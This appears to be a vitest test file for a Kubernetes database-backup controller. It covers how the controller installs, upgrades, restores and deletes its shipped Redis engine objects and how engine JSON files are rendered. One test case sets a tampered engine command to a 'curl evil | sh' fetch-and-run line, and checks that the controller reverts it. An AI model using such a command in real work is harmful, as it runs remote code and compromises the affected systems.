/**
 * The engines the controller installs from its settings (controller/shipped-engines.ts), what it does for each
 * case, and the chart's generated engine files (scripts/engine-files.ts) against the tools they come from.
 */
import { describe, expect, it } from 'vitest';
import type { DatabaseBackupEngine, EngineSpec } from '../../api/crds/engine.js';
import { planEngineInstall, shippedEngineObject } from '../../controller/shipped-engines.js';
import { renderEngineFiles, shippedEngineSpec, ENGINE_DIR } from '../../scripts/engine-files.js';
import { TOOLS } from '../../tools/index.js';

const spec = (image = 'ghcr.io/db-backup-controller/backup-runner-redis:1.0.0'): EngineSpec => ({ ...shippedEngineSpec(TOOLS.redis!), image });
const stored = (s: EngineSpec, labels: Record<string, string> = { 'app.kubernetes.io/managed-by': 'db-backup-controller' }): DatabaseBackupEngine =>
  ({ apiVersion: 'dbbackup.io/v1alpha1', kind: 'DatabaseBackupEngine', metadata: { name: 'redis', uid: 'u-1', labels }, spec: structuredClone(s) }) as DatabaseBackupEngine;

describe('installing the engines of the settings', () => {
  it.each<[string, EngineSpec | undefined, DatabaseBackupEngine | undefined, string]>([
    ['wanted and missing: created', spec(), undefined, 'apply'],
    ['wanted, installed, unchanged: nothing', spec(), stored(spec()), 'none'],
    ['wanted with another image (an upgrade): applied', spec('ghcr.io/db-backup-controller/backup-runner-redis:1.1.0'), stored(spec()), 'apply'],
    ['wanted, installed and edited by someone: brought back', spec(), stored({ ...spec(), command: ['/bin/sh', '-c', 'curl evil | sh'] }), 'apply'],
    ['wanted, but an engine of that name was made by someone else: left alone', spec(), stored(spec(), {}), 'foreign'],
    ['no longer wanted, installed by the controller: deleted', undefined, stored(spec()), 'delete'],
    ['not wanted, made by someone else: nothing', undefined, stored(spec(), { 'app.kubernetes.io/managed-by': 'helm' }), 'none'],
    ['not wanted, missing: nothing', undefined, undefined, 'none'],
  ])('%s', (_, wanted, current, action) => {
    expect(planEngineInstall('redis', wanted, current).action).toBe(action);
  });

  it('applies the settings\' spec, labelled as the controller\'s, and deletes only the object it saw', () => {
    const plan = planEngineInstall('redis', spec(), undefined);
    expect(plan).toEqual({ action: 'apply', object: shippedEngineObject('redis', spec()) });
    expect(shippedEngineObject('redis', spec()).metadata).toEqual({
      name: 'redis',
      labels: { 'app.kubernetes.io/managed-by': 'db-backup-controller', 'app.kubernetes.io/part-of': 'db-backup-controller' },
    });
    expect(planEngineInstall('redis', undefined, stored(spec()))).toEqual({ action: 'delete', uid: 'u-1' });
  });

  it('says why it leaves a foreign engine alone and how to settle it', () => {
    const plan = planEngineInstall('redis', spec(), stored(spec(), {}));
    expect(plan.action === 'foreign' && plan.message).toContain('without the label app.kubernetes.io/managed-by=db-backup-controller: it is left as it is');
  });
});

describe('the chart\'s engine files', () => {
  it('one per tool with an image, holding the tool\'s definition and what it backs up', () => {
    const files = renderEngineFiles();
    expect(files.map((f) => f.path)).toEqual(Object.entries(TOOLS).filter(([, t]) => t.image).map(([n]) => `${ENGINE_DIR}/${n}.json`));
    const redis = JSON.parse(files.find((f) => f.path.endsWith('/redis.json'))!.text) as Record<string, unknown>;
    const d = TOOLS.redis!.definition;
    expect(redis).toEqual({ command: d.command, verbs: d.verbs, formats: d.formats, configSchema: d.configSchema, databases: TOOLS.redis!.image!.databases });
  });

  it('leaves out a tool without an image of its own', () => {
    const { etcd: _etcd, ...rest } = TOOLS;
    expect(renderEngineFiles({ ...rest, etcd: { ...TOOLS.etcd!, image: undefined } }).map((f) => f.path)).toEqual([`${ENGINE_DIR}/redis.json`]);
  });
});
